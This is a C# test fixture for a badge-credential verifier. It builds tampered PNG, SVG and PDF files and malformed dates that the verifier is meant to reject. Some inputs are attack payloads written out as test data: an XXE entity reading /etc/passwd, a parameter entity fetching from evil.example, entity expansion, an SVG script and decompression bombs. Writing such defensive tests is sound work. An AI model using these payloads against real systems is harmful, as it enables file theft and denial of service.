using System.Text;
using Glabella.Credentials.Baking;
using Glabella.Credentials.Tests.Baking;
using Glabella.Credentials.Tests.Verification;

namespace Glabella.Credentials.Tests.Hostile;

/// <summary>Pictures, drawings and PDFs with a good certificate inside, and something else; and files that are none.</summary>
static class SpoiledFiles
{
    static string Good(Issued issued) => Encoding.UTF8.GetString(issued.Credential);
    static string Forged(Issued issued) => Encoding.UTF8.GetString(issued.Tampered(b => b["name"] = "Master injector"));

    public static IEnumerable<HostileFile> All() => [.. Pictures(), .. Drawings(), .. Papers(), .. Others(), .. Times()];

    static byte[] Field(string text, string before = "\0\0\0\0\0") => BakingABadge.Chunk("iTXt", [.. "openbadgecredential"u8, .. Encoding.Latin1.GetBytes(before), .. Encoding.UTF8.GetBytes(text)]);

    static IEnumerable<HostileFile> Pictures()
    {
        foreach (var (name, make) in ((string, Func<Issued, byte[], byte[]>)[])
        [
            ("the same certificate twice", (i, p) => BakingABadge.Insert(p, Field(Good(i)))),
            ("a forged one before it", (i, p) => BakingABadge.Insert(p, Field(Forged(i)))),
            ("a forged one behind it", (i, p) => [.. p[..^12], .. Field(Forged(i)), .. p[^12..]]),
            ("a forged one in a tEXt chunk", (i, p) => BakingABadge.Insert(p, BakingABadge.Chunk("tEXt", [.. "openbadgecredential\0"u8, .. Encoding.UTF8.GetBytes(Forged(i))]))),
            ("a forged one in a zTXt chunk", (i, p) => BakingABadge.Insert(p, BakingABadge.Chunk("zTXt", [.. "openbadgecredential\0\0"u8, .. BakingABadge.ZLib(Encoding.UTF8.GetBytes(Forged(i)))]))),
            ("an empty one beside it", (_, p) => BakingABadge.Insert(p, Field(""))),
            ("compressed", (i, _) => BakingABadge.Insert(BakingABadge.Picture(), BakingABadge.Chunk("iTXt", [.. "openbadgecredential\0\u0001\0\0\0"u8, .. BakingABadge.ZLib(Encoding.UTF8.GetBytes(Good(i)))]))),
            ("marked as compressed", (i, _) => BakingABadge.Insert(BakingABadge.Picture(), Field(Good(i), "\0\u0001\0\0\0"))),
            ("of an unknown method", (i, _) => BakingABadge.Insert(BakingABadge.Picture(), Field(Good(i), "\0\0\u0007\0\0"))),
            ("under the keyword of version 2", (i, _) => BakingABadge.Insert(BakingABadge.Picture(), BakingABadge.Chunk("iTXt", [.. "openbadges\0\0\0\0\0"u8, .. Encoding.UTF8.GetBytes(Good(i))]))),
            ("under the keyword in capitals", (i, _) => BakingABadge.Insert(BakingABadge.Picture(), BakingABadge.Chunk("iTXt", [.. "OpenBadgeCredential\0\0\0\0\0"u8, .. Encoding.UTF8.GetBytes(Good(i))]))),
            ("not in UTF-8", (i, _) => BakingABadge.Insert(BakingABadge.Picture(), BakingABadge.Chunk("iTXt", [.. "openbadgecredential\0\0\0\0\0"u8, .. Encoding.Unicode.GetBytes(Good(i))]))),
            ("a bit flipped", (_, p) => Flipped(p, 400)),
            ("a flipped checksum", (_, p) => Flipped(p, 30)),
            ("cut", (_, p) => p[..^20]),
            ("a tail", (_, p) => [.. p, .. "PK\u0003\u0004"u8]),
            ("a second picture behind it", (i, p) => [.. p, .. Forms.Png(Forged(i))]),
            ("a length beyond the file", (_, p) => [.. p[..33], 0x7F, 0xFF, 0xFF, 0xFF, .. p[37..]]),
            ("two headers", (_, p) => BakingABadge.Insert(p, p[8..33])),
            ("an SVG inside", (i, _) => Forms.Png(Encoding.UTF8.GetString(Forms.Svg(Good(i))))),
            ("nothing inside", (_, _) => BakingABadge.Picture()),
            ("10 MiB of certificate", (_, _) => Forms.Png("{\"a\":\"" + new string('x', 9_000_000) + "\"}")),
            ("9 MiB of pixels and a forged one", (i, _) => BakingABadge.Insert(Forms.Png(Forged(i)), BakingABadge.Chunk("IDAT", new byte[9_000_000]))),
            ("too large", (_, p) => [.. p, .. new byte[PngBadge.MaximumBytes]]),
            ("100,000 chunks and a forged one", (i, _) => BakingABadge.Insert(Forms.Png(Forged(i)), [.. Enumerable.Repeat(BakingABadge.Chunk("tIME", [1]), 100_000).SelectMany(c => c)])),
        ])
            yield return new("PNG, " + name, i => make(i, Forms.Png(Good(i))));
    }

    static byte[] Flipped(byte[] file, int at)
    {
        file[at] ^= 1;
        return file;
    }

    static IEnumerable<HostileFile> Drawings()
    {
        foreach (var (name, make) in ((string, Func<Issued, string, string>)[])
        [
            ("the same certificate twice", (_, s) => Twice(s, s)),
            ("a forged one beside it", (i, s) => Twice(s, Encoding.UTF8.GetString(Forms.Svg(Forged(i))))),
            ("a forged JWT in its attribute", (_, s) => s.Replace("<openbadges:credential>", $"<openbadges:credential verify=\"{Forms.Jwt()}\">")),
            ("two texts", (i, s) => s.Replace("</openbadges:credential>", $"<![CDATA[{Forged(i)}]]></openbadges:credential>")),
            ("a text in front", (_, s) => s.Replace("<openbadges:credential>", "<openbadges:credential>x")),
            ("no section of characters", (_, s) => s.Replace("<![CDATA[", "").Replace("]]>", "")),
            ("at the end", (_, s) => Moved(s, "</svg>")),
            ("in a group", (_, s) => s.Replace("<openbadges:credential>", "<g><openbadges:credential>").Replace("</openbadges:credential>", "</openbadges:credential></g>")),
            ("under another namespace", (_, s) => s.Replace("https://purl.imsglobal.org/ob/v3p0", "https://evil.example/ob")),
            ("in no drawing", (_, s) => s.Replace("http://www.w3.org/2000/svg", "http://www.w3.org/1999/xhtml")),
            ("an entity that grows", (_, s) => "<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;\">]>" + s[(s.IndexOf("?>", StringComparison.Ordinal) + 2)..].Replace("Badge", "&c;")),
            ("an entity from a file", (_, s) => "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + s[(s.IndexOf("?>", StringComparison.Ordinal) + 2)..].Replace("Badge", "&x;")),
            ("a parameter entity", (_, s) => "<!DOCTYPE svg [<!ENTITY % x SYSTEM \"http://evil.example/x\"> %x;]>" + s[(s.IndexOf("?>", StringComparison.Ordinal) + 2)..]),
            ("never closed", (_, s) => s.Replace("</svg>", "")),
            ("nested without end", (_, s) => s.Replace("</svg>", string.Concat(Enumerable.Repeat("<g>", 200_000)))),
            ("100,000 attributes", (i, _) => Encoding.UTF8.GetString(Forms.Svg(Forged(i))).Replace("<title>", "<g " + string.Concat(Enumerable.Range(0, 100_000).Select(n => $"a{n}=\"\" ")) + "/><title>")),
            ("2 MiB of text and a forged one", (i, _) => Encoding.UTF8.GetString(Forms.Svg(Forged(i))).Replace("Badge", new string('x', 1_900_000))),
            ("2 MiB of certificate", (_, _) => Encoding.UTF8.GetString(Forms.Svg("{\"a\":\"" + new string('x', 1_900_000) + "\"}"))),
            ("too large", (_, s) => s.Replace("Badge", new string('x', 2_100_000))),
            ("an empty certificate", (_, _) => Encoding.UTF8.GetString(Forms.Svg("{}"))),
            ("a script and a forged one", (i, _) => Encoding.UTF8.GetString(Forms.Svg(Forged(i))).Replace("<title>", "<script>alert(1)</script><title>")),
        ])
            yield return new("SVG, " + name, i => Encoding.UTF8.GetBytes(make(i, Encoding.UTF8.GetString(Forms.Svg(Good(i))))));
    }

    const string Close = "</openbadges:credential>";
    static string Element(string svg) => svg[svg.IndexOf("<openbadges:credential", StringComparison.Ordinal)..(svg.IndexOf(Close, StringComparison.Ordinal) + Close.Length)];
    static string Twice(string svg, string other) => svg.Replace(Close, Close + Element(other));
    static string Moved(string svg, string before) => svg.Replace(Element(svg), "").Replace(before, Element(svg) + before);

    static IEnumerable<HostileFile> Papers()
    {
        foreach (var (name, make) in ((string, Func<Issued, byte[], byte[]>)[])
        [
            ("a forged one attached too", (i, _) => AttachingToAPdf.Pdf(stream: AttachingToAPdf.Packed(Good(i)), extra: AttachingToAPdf.Packed(Forged(i)))),
            ("updated behind its end", (i, p) => [.. p, .. "5 0 obj\n"u8, .. AttachingToAPdf.Packed(Forged(i)), .. "\nendobj\nstartxref\n9\n%%EOF\n"u8]),
            ("a tail", (_, p) => [.. p, .. "PK"u8]),
            ("a second PDF behind it", (i, p) => [.. p, .. Forms.Pdf(Forged(i))]),
            ("a picture in front", (i, p) => [.. Forms.Png(Forged(i)), .. p]),
            ("cut", (_, p) => p[..^30]),
            ("no attachment", (i, _) => AttachingToAPdf.Pdf(stream: AttachingToAPdf.Packed(Good(i), "/Type /Metadata"))),
            ("a bomb attached", (_, _) => Forms.Pdf(new string(' ', 50_000_000))),
            ("an attachment of 300 KiB", (_, _) => Forms.Pdf("{\"a\":\"" + new string('x', 300_000) + "\"}")),
            ("a length beyond the file", (i, _) => AttachingToAPdf.Pdf(stream: AttachingToAPdf.Packed(Good(i), length: 999_999))),
            ("too large", (_, p) => [.. p, .. new byte[PdfBadge.MaximumBytes]]),
            ("9 MiB of forged attachment", (_, _) => AttachingToAPdf.Pdf(stream: [.. "<< /Type /EmbeddedFile /Subtype /x /Filter /FlateDecode /Length 9000000 >>\nstream\n"u8, .. new byte[9_000_000], .. "\nendstream"u8])),
            ("only its first line", (_, _) => "%PDF-1.7"u8.ToArray()),
        ])
            yield return new("PDF, " + name, i => make(i, Forms.Pdf(Good(i))));
    }

    static IEnumerable<HostileFile> Others()
    {
        foreach (var (name, file) in ((string, byte[])[])
        [
            ("nothing", []), ("one zero", [0]), ("spaces", Encoding.ASCII.GetBytes(new string(' ', 10_000))), ("a JPEG", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16]), ("a GIF", "GIF89a"u8.ToArray()), ("a ZIP", "PK\u0003\u0004"u8.ToArray()),
            ("a web page", "<!doctype html><title>Valid</title>"u8.ToArray()), ("the word valid", "valid"u8.ToArray()), ("an empty object", "{}"u8.ToArray()), ("an empty list", "[]"u8.ToArray()), ("null", "null"u8.ToArray()),
            ("an answer of ours", """{"verdict":"valid","checks":[]}"""u8.ToArray()), ("a status list", new Issued().Lists[Issued.Revocations]), ("a DID document", new Issued().Document.ToJson().Bytes()), ("an address", "https://glabella.example/verify/0123456789abcdef0123456789abcdef"u8.ToArray()),
            ("a gigabyte's beginning", new byte[12_000_000]), ("the mark of a text alone", [0xEF, 0xBB, 0xBF]), ("dots", Encoding.ASCII.GetBytes(new string('.', 500_000))), ("ey and dots", "ey.ey.ey"u8.ToArray()),
            ("an enveloped credential", """{"@context":["https://www.w3.org/ns/credentials/v2"],"type":"EnvelopedVerifiableCredential","id":"data:application/vc+jwt,eyJ"}"""u8.ToArray()),
        ])
            yield return new("File, " + name, _ => file);
    }

    /// <summary>Honestly signed, at the wrong time.</summary>
    static IEnumerable<HostileFile> Times()
    {
        foreach (var (name, from, until) in ((string, string, string)[])
        [
            ("expired", "2024-05-30T22:00:00Z", "2026-05-30T22:00:00Z"), ("expired six minutes ago", "2024-05-30T22:00:00Z", "2026-09-07T21:54:00Z"), ("not begun", "2027-05-30T22:00:00Z", "2028-05-30T22:00:00Z"), ("beginning in six minutes", "2026-09-07T22:06:00Z", "2028-05-30T22:00:00Z"),
            ("ended before it began", "2026-05-30T22:00:00Z", "2025-05-30T22:00:00Z"), ("a day without hour", "2026-05-30", "2028-05-30"), ("without zone", "2026-05-30T22:00:00", "2028-05-30T22:00:00"), ("a leap second", "2026-05-30T22:00:60Z", "2028-05-30T22:00:00Z"),
            ("a day that is none", "2026-02-30T22:00:00Z", "2028-05-30T22:00:00Z"), ("in words", "last year", "never"), ("an hour that is none", "2026-05-30T25:00:00Z", "2028-05-30T22:00:00Z"), ("beyond the calendar", "2026-05-30T22:00:00Z", "99999-01-01T00:00:00Z"),
            ("in seconds", "1780000000", "1900000000"), ("in Arabic digits", "\u0662\u0660\u0662\u0666-05-30T22:00:00Z", "2028-05-30T22:00:00Z"), ("with a line break", "2026-05-30T22:00:00Z\n", "2028-05-30T22:00:00Z"),
        ])
            yield return new("Time, " + name, i => i.Signed(b => { b["validFrom"] = from; b["validUntil"] = until; }));
    }
}
